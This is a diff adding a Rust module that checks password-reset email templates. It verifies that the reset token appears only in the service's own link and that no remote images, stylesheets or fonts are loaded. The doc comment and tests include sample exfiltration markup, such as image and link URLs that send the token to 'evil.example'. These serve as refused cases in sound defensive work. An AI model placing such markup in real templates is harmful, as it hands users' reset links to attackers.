@@ -1,0 +1,360 @@
+//! Where a token may go: only into the links the service built.
+//!
+//! The link lint ([`super::lint`]) proves the real link is present. This
+//! module proves it goes nowhere else: an operator's template that writes
+//! `<img src="https://evil.example/p?{{ link }}">`, a query of another
+//! link, a stylesheet URL, or the token in plain text would hand every
+//! user's reset link to whoever reads that URL or text.
+//!
+//! Every email is rendered twice with the same accounts and different
+//! tokens. Whatever differs between the two renderings depends on the
+//! token — the link itself, or any value a template derives from it
+//! (`{{ link|urlencode }}`, `{{ link[30:] }}`, `{% if link[40] < 'M' %}`).
+//! After each allowed occurrence is replaced by a placeholder (the `href`
+//! of an `<a>` or a text node that is exactly one of the email's links; in
+//! the text part, a line holding only a link), the two renderings must be
+//! identical. The first place where they differ is named in the error.
+//!
+//! Remote resources (images, stylesheets, fonts, frames: anything an email
+//! client fetches by itself) are refused as well: they are tracking beacons
+//! at best, and a channel out at worst. `data:` and `cid:` URLs are inline.
+
+use scraper::Html;
+use scraper::node::Node;
+
+use crate::mail::MailContent;
+
+/// A rendering of one email, cut into the places a token could hide.
+struct Places {
+    /// `(where, what)`: a human description of the place and its content.
+    items: Vec<(String, String)>,
+}
+
+/// Attributes whose URL a mail client fetches without a click.
+const FETCHED_ATTRIBUTES: &[&str] = &[
+    "src",
+    "srcset",
+    "background",
+    "poster",
+    "lowsrc",
+    "dynsrc",
+    "data",
+    "xlink:href",
+    "imagesrcset",
+];
+
+/// Elements a mail client fetches through their `href`.
+const FETCHED_BY_HREF: &[&str] = &["link", "image", "use", "feimage"];
+
+/// Checks that the token of `a` (rendered with links `links_a`) appears in
+/// no other place than those links, by comparing with `b`, the same email
+/// rendered with other tokens (links `links_b`). Returns `(part, reason)`.
+pub(super) fn check_confined(
+    a: &MailContent,
+    b: &MailContent,
+    links_a: &[&str],
+    links_b: &[&str],
+    link_page: &str,
+) -> Result<(), (&'static str, String)> {
+    if a.subject != b.subject {
+        return Err((
+            "subject",
+            "must not depend on the link or its token (a subject is shown in lists and previews)".into(),
+        ));
+    }
+    if let Some(line) = first_difference(&text_places(&a.text, links_a), &text_places(&b.text, links_b)) {
+        return Err((
+            "text",
+            format!(
+                "uses the link's token outside a line holding only the link ({line}); \
+                 the token may appear only in the link to {link_page}"
+            ),
+        ));
+    }
+    if let Some(place) = first_difference(&html_places(&a.html, links_a), &html_places(&b.html, links_b)) {
+        return Err((
+            "html",
+            format!(
+                "uses the link's token outside the link ({place}); the token may appear only as the \
+                 href of an <a> that is the link to {link_page}, or as the link's own text"
+            ),
+        ));
+    }
+    Ok(())
+}
+
+/// Refuses remote resources in an HTML body: what a mail client would
+/// fetch by itself (images, stylesheets, fonts, frames, scripts).
+pub(super) fn check_no_remote_resources(html: &str) -> Result<(), String> {
+    let document = Html::parse_document(html);
+    for node in document.tree.root().descendants() {
+        match node.value() {
+            Node::Element(el) => {
+                let name = el.name();
+                for (attr, value) in el.attrs() {
+                    let fetched = FETCHED_ATTRIBUTES.contains(&attr)
+                        || (attr == "href" && FETCHED_BY_HREF.contains(&name));
+                    if fetched && is_remote(attr, value) {
+                        return Err(format!(
+                            "loads a remote resource (the `{attr}` of a <{name}>: {}); reset emails \
+                             may not load images, fonts or stylesheets from the network \
+                             (use `data:` or `cid:` for an inline image)",
+                            describe_url(value)
+                        ));
+                    }
+                    if attr == "style" && css_fetches(value) {
+                        return Err(format!(
+                            "loads a remote resource (a `url(...)` or `@import` in the `style` of a \
+                             <{name}>); reset emails may not load anything from the network"
+                        ));
+                    }
+                }
+            }
+            Node::Text(text) => {
+                let in_style = node
+                    .parent()
+                    .and_then(|p| p.value().as_element().map(|e| e.name() == "style"))
+                    .unwrap_or(false);
+                if in_style && css_fetches(text) {
+                    return Err(
+                        "loads a remote resource (a `url(...)` or `@import` in a <style>); \
+                                reset emails may not load anything from the network"
+                            .into(),
+                    );
+                }
+            }
+            _ => {}
+        }
+    }
+    Ok(())
+}
+
+/// Whether a fetched URL leaves the message: anything but empty, `data:`,
+/// `cid:` and a fragment. A `srcset` is a list of `URL descriptor` pairs.
+fn is_remote(attr: &str, value: &str) -> bool {
+    let inline = |url: &str| {
+        let lower = url.to_ascii_lowercase();
+        url.is_empty() || lower.starts_with("data:") || lower.starts_with("cid:") || lower.starts_with('#')
+    };
+    if attr.ends_with("srcset") {
+        value
+            .split_whitespace()
+            .map(|w| w.trim_end_matches(','))
+            .filter(|w| !is_srcset_descriptor(w))
+            .any(|url| !inline(url))
+    } else {
+        !inline(value.trim())
+    }
+}
+
+/// `2x`, `1.5x`, `640w`: the width or density after a `srcset` URL.
+fn is_srcset_descriptor(word: &str) -> bool {
+    word.strip_suffix(['x', 'w'])
+        .is_some_and(|n| !n.is_empty() && n.chars().all(|c| c.is_ascii_digit() || c == '.'))
+}
+
+/// Whether CSS fetches something: `@import`, or a `url(...)` that is not
+/// `data:` / `cid:` / a fragment.
+fn css_fetches(css: &str) -> bool {
+    let compact: String = css
+        .chars()
+        .filter(|c| !c.is_whitespace())
+        .flat_map(char::to_lowercase)
+        .collect();
+    if compact.contains("@import") {
+        return true;
+    }
+    compact.match_indices("url(").any(|(i, m)| {
+        let rest = compact[i + m.len()..].trim_start_matches(['"', '\'']);
+        !(rest.starts_with("data:") || rest.starts_with("cid:") || rest.starts_with('#'))
+    }) || compact.contains("image-set(")
+}
+
+/// Names a URL by its origin, never by its query (which may hold a token).
+fn describe_url(value: &str) -> String {
+    match url::Url::parse(value.trim()) {
+        Ok(url) if url.has_host() => url.origin().ascii_serialization(),
+        Ok(url) => format!("a `{}:` URL", url.scheme()),
+        Err(_) => "a relative URL".into(),
+    }
+}
+
+fn text_places(text: &str, links: &[&str]) -> Places {
+    let items = text
+        .lines()
+        .enumerate()
+        .map(|(i, line)| {
+            let content = match links.iter().position(|l| line.trim() == *l) {
+                Some(k) => format!("\u{0}link{k}"),
+                None => line.to_owned(),
+            };
+            (format!("line {}", i + 1), content)
+        })
+        .collect();
+    Places { items }
+}
+
+fn html_places(html: &str, links: &[&str]) -> Places {
+    let document = Html::parse_document(html);
+    let allowed = |value: &str| links.iter().position(|l| value.trim() == *l);
+    let mut items = Vec::new();
+    for node in document.tree.root().descendants() {
+        match node.value() {
+            Node::Element(el) => {
+                let name = el.name();
+                items.push(("an element's name".to_owned(), name.to_owned()));
+                let mut attrs: Vec<(&str, &str)> = el.attrs().collect();
+                attrs.sort_unstable();
+                for (attr, value) in attrs {
+                    let content = match allowed(value) {
+                        Some(k) if name == "a" && attr == "href" => format!("\u{0}link{k}"),
+                        _ => value.to_owned(),
+                    };
+                    let place = if attr == "href" || FETCHED_ATTRIBUTES.contains(&attr) {
+                        format!("the `{attr}` of a <{name}> pointing at {}", describe_url(value))
+                    } else {
+                        format!("the `{attr}` attribute of a <{name}>")
+                    };
+                    items.push((place, content));
+                }
+            }
+            Node::Text(text) => {
+                let parent = node
+                    .parent()
+                    .and_then(|p| p.value().as_element().map(|e| e.name().to_owned()))
+                    .unwrap_or_else(|| "document".into());
+                let content = match allowed(text) {
+                    Some(k) => format!("\u{0}link{k}"),
+                    None => text.to_string(),
+                };
+                items.push((format!("the text of a <{parent}>"), content));
+            }
+            Node::Comment(c) => items.push(("an HTML comment".into(), c.to_string())),
+            Node::Doctype(d) => items.push(("the doctype".into(), format!("{d:?}"))),
+            Node::ProcessingInstruction(p) => {
+                items.push(("a processing instruction".into(), format!("{p:?}")));
+            }
+            _ => {}
+        }
+    }
+    Places { items }
+}
+
+/// The place of the first difference between two renderings, if any.
+fn first_difference(a: &Places, b: &Places) -> Option<String> {
+    for (x, y) in a.items.iter().zip(&b.items) {
+        if x.1 != y.1 {
+            return Some(x.0.clone());
+        }
+    }
+    if a.items.len() != b.items.len() {
+        let shorter = a.items.len().min(b.items.len());
+        let place = a
+            .items
+            .get(shorter)
+            .or_else(|| b.items.get(shorter))
+            .map(|p| p.0.clone())
+            .unwrap_or_default();
+        return Some(format!("the structure changes with the token, at {place}"));
+    }
+    None
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    const LA: &str = "https://a.example/reset?token=AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA";
+    const LB: &str = "https://a.example/reset?token=BBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBB";
+
+    fn mail(html: &str, link: &str) -> MailContent {
+        MailContent {
+            subject: "Reset".into(),
+            text: format!("Open:\n\n{link}\n"),
+            html: html.replace("LINK", link),
+        }
+    }
+
+    fn check(html: &str) -> Result<(), (&'static str, String)> {
+        check_confined(
+            &mail(html, LA),
+            &mail(html, LB),
+            &[LA],
+            &[LB],
+            "https://a.example/reset",
+        )
+    }
+
+    #[test]
+    fn the_link_as_href_or_as_its_own_text_is_allowed() {
+        check("<p><a href=\"LINK\">Reset</a></p>").unwrap();
+        check("<p><a href=\"LINK\">LINK</a></p>").unwrap();
+        check("<p><a href=\"LINK\">Reset</a> <a href=\"https://a.example/help\">help</a></p>").unwrap();
+    }
+
+    #[test]
+    fn the_token_anywhere_else_is_refused_naming_the_place() {
+        for (html, place) in [
+            (
+                "<img src=\"https://evil.example/p?LINK\">",
+                "`src` of a <img> pointing at https://evil.example",
+            ),
+            (
+                "<a href=\"https://evil.example/p?LINK\">x</a>",
+                "`href` of a <a> pointing at https://evil.example",
+            ),
+            ("<a href=\"LINK&next=1\">x</a>", "`href` of a <a>"),
+            ("<p>Your link: LINK</p>", "text of a <p>"),
+            ("<!-- LINK -->", "an HTML comment"),
+            ("<p title=\"LINK\">x</p>", "`title` attribute of a <p>"),
+        ] {
+            let (part, reason) = check(&format!("<a href=\"LINK\">Reset</a>{html}")).unwrap_err();
+            assert_eq!(part, "html");
+            assert!(reason.contains(place), "{html}: {reason}");
+            assert!(
+                !reason.contains("AAAA"),
+                "the reason must not print the token: {reason}"
+            );
+        }
+    }
+
+    #[test]
+    fn the_text_part_allows_the_link_only_alone_on_its_line() {
+        let a = MailContent {
+            subject: "s".into(),
+            text: format!("Open {LA} now\n"),
+            html: String::new(),
+        };
+        let b = MailContent {
+            text: format!("Open {LB} now\n"),
+            ..a.clone()
+        };
+        let (part, reason) = check_confined(&a, &b, &[LA], &[LB], "x").unwrap_err();
+        assert_eq!(part, "text");
+        assert!(reason.contains("line 1"), "{reason}");
+    }
+
+    #[test]
+    fn remote_resources_are_refused() {
+        for html in [
+            "<img src=\"https://cdn.example/logo.png\" alt=logo>",
+            "<img src=\"//cdn.example/logo.png\">",
+            "<img srcset=\"data:image/png;base64,AA 1x, https://t.example/p 2x\">",
+            "<link rel=stylesheet href=\"https://cdn.example/a.css\">",
+            "<table background=\"http://t.example/bg.gif\"></table>",
+            "<p style=\"background: url( 'https://t.example/b.png' )\">x</p>",
+            "<style>@import 'https://fonts.example/f.css';</style>",
+            "<style>p { background: URL(https://t.example/b) }</style>",
+        ] {
+            assert!(check_no_remote_resources(html).is_err(), "{html}");
+        }
+        for html in [
+            "<img src=\"data:image/png;base64,AAAA\" alt=x>",
+            "<img src=\"cid:logo@site\" alt=x>",
+            "<p style=\"color: red\">x</p>",
+            "<a href=\"https://a.example/help\">help</a>",
+        ] {
+            check_no_remote_resources(html).unwrap();
+        }
+    }
+}
